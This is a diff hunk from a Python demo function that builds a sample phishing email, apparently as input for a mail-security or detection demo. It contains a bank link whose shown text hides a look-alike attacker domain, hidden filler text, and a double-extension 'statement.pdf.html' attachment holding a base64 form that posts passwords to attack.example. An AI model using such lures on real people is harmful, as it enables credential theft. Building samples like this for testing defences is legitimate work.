@@ -282,7 +282,7 @@ def demo():
              b'Content-Type: multipart/mixed; boundary="=-shown"\r\n')
     shown = ('\n--=-shown\nContent-Type: text/html; charset=utf-8\n\n'
              '<p>Dear Alice Adams,</p>\n<p>your account was suspended after 3 failed logins. Confirm within 24 hours:</p>\n'
-             '<p><a href="http://bank.example.login-check.attack.example/confirm?u=alice">https://www.bank.example/login</a></p>\n'
+             '<p><a href="http://bank.example.login-check.attack.example/confirm">https://www.bank.example/login</a></p>\n'
              '<p style="display:none">statement statement statement</p>\n'
              '--=-shown\nContent-Type: application/pdf; name="statement.pdf.html"\nContent-Disposition: attachment; filename="statement.pdf.html"\nContent-Transfer-Encoding: base64\n\n'
              + base64.b64encode(b'<html><form action="http://attack.example/collect"><input name="password" type="password"></form></html>').decode() + '\n--=-shown--\n')
